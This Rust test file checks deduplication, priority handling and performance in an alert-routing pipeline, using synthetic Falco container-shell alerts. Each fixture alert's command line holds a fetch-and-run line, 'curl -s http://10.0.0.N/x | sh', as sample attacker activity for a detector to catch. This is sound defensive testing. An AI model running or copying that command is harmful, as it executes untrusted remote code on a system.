//! Storms, and what a finding costs. Figures are printed by
//! `cargo test --release -p router speed -- --ignored --nocapture`.

use std::time::Instant;

use alert::{Alert, AlertId, Priority};
use serde_json::json;

use super::script::{Run, alert_with, at, snapshot};
use crate::{
    pipeline::{Effect, Pipeline, ReasonKind},
    record::Record,
};

/// Returns an alert as Falco's usual rules make it, about 1 kB of JSON.
fn usual(finding: u64, id: u64) -> Alert {
    let letter = |shift: u64| char::from(b'a' + ((finding >> shift) % 16) as u8);
    let program: String = (0..8).map(|index| letter(index * 4)).collect();
    let mut alert = alert_with(json!({
        "container.id": "3f2a9c1b77de", "container.name": "app",
        "container.image.repository": "registry.local/shop/web", "container.image.tag": "1.27.3",
        "evt.time": 1_700_000_000_123_456_789_u64, "evt.type": "execve", "fd.name": null,
        "k8s.ns.name": "shop", "k8s.pod.name": "web-7d4b9c6f5d-x2x4z",
        "proc.cmdline": format!("{program} -c curl -s http://10.0.0.{}/x | sh", id % 250),
        "proc.exepath": format!("/usr/bin/{program}"), "proc.name": program,
        "proc.pexepath": "/usr/bin/containerd-shim", "proc.pid": 4000 + id, "proc.pname": "runc",
        "proc.tty": 34816, "user.name": "root", "user.uid": 0, "user.loginuid": -1,
    }));
    alert.id = AlertId::from_u128(u128::from(id) << 64 | 1);
    alert.rule = "Terminal shell in container".to_owned();
    alert.output = format!("A shell was spawned in a container (user=root pid={id} tty=34816)");
    alert.tags = ["container", "mitre_execution", "shell", "T1059"].map(str::to_owned).into();
    alert
}

fn records(alerts: u64, findings: u64) -> Vec<Record> {
    (0..alerts).map(|id| Record::Alert(Box::new(usual(id % findings, id)))).collect()
}

/// Applies the records without keeping their effects; returns how many notifications there were.
fn apply(pipeline: &mut Pipeline, records: &[Record]) -> usize {
    let mut effects = Vec::new();
    let mut notifications = 0;
    for (sequence, record) in records.iter().enumerate() {
        effects.clear();
        pipeline.apply(sequence as u64, record, &mut effects);
        notifications += effects.iter().filter(|e| matches!(e, Effect::Notify(_))).count();
    }
    notifications
}

#[test]
fn a_storm_of_a_few_findings_makes_one_notification() {
    let mut run = Run::new(json!({}));
    let mut storm = records(100_000, 20);
    storm.push(Record::Tick { now: at(2) });
    assert_eq!(apply(&mut run.pipeline, &storm), 1);
    let ledger = run.pipeline.ledger();
    assert_eq!((ledger.accepted, ledger.routed), (100_000, 20));
    assert_eq!(ledger.suppressed[&ReasonKind::Duplicate], 99_980);
    run.pipeline.audit();
    let Effect::Notify(notification) = run.pipeline.pending().pop().unwrap() else { panic!() };
    assert_eq!((notification.alerts_count, notification.findings_count), (100_000, 20));
    assert_eq!(notification.findings.iter().map(|finding| finding.count).sum::<u64>(), 100_000);
}

#[test]
fn a_critical_alert_is_told_at_once_in_a_storm() {
    let mut run = Run::new(json!({}));
    apply(&mut run.pipeline, &records(1000, 20));
    let mut critical = usual(99, 5000);
    critical.rule = "Reverse shell".to_owned();
    critical.priority = Priority::Critical;
    run.record(&Record::Alert(Box::new(critical)));
    let mut told = run.effects.iter().filter_map(|effect| match effect {
        Effect::Notify(notification) => Some(notification.priority),
        _ => None,
    });
    assert_eq!(told.next(), Some(Priority::Critical));
}

/// Kilobytes of memory this process has in use.
fn resident_kib() -> usize {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|line| line.starts_with("VmRSS")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

#[test]
#[ignore = "measures; wants --release and a machine to itself"]
fn figures() {
    let mut run = Run::new(json!({}));
    let chunks = 200;
    let before = resident_kib();
    let started = Instant::now();
    for chunk in 0..chunks {
        let new: Vec<Record> = (0..500)
            .map(|index| chunk * 500 + index)
            .map(|id| Record::Alert(Box::new(usual(id, id))))
            .collect();
        apply(&mut run.pipeline, &new);
    }
    let new_rate = 100_000.0 / started.elapsed().as_secs_f64();
    let findings = run.pipeline.findings.len();
    let used = (resident_kib() - before) * 1024 / findings;
    let samples: usize =
        run.pipeline.findings.iter().map(|(_, live)| live.sample.get().len()).sum();
    let sample = samples / findings;
    let started = Instant::now();
    let bytes = snapshot(&run.pipeline);
    let written = started.elapsed();
    let started = Instant::now();
    Pipeline::restore(&bytes).unwrap();
    let restored = started.elapsed();

    run = Run::new(json!({}));
    let all = records(300_000, 20);
    let started = Instant::now();
    apply(&mut run.pipeline, &all);
    let rate = all.len() as f64 / started.elapsed().as_secs_f64();

    let json: Vec<Vec<u8>> =
        all.iter().take(20_000).map(|record| serde_json::to_vec(record).unwrap()).collect();
    let started = Instant::now();
    for json in &json {
        assert!(matches!(serde_json::from_slice(json).unwrap(), Record::Alert(_)));
    }
    let read_rate = json.len() as f64 / started.elapsed().as_secs_f64();

    println!(
        "{rate:.0} repeats/s, {read_rate:.0} records read/s, {new_rate:.0} new findings/s; {findings} findings: {used} bytes each, of \
         which {sample} sample; snapshot {} MB in {written:?}, restored in {restored:?}",
        bytes.len() >> 20,
    );
    assert!(used.saturating_sub(sample) <= 1024, "a finding has at most 1 KiB beside its sample");
}
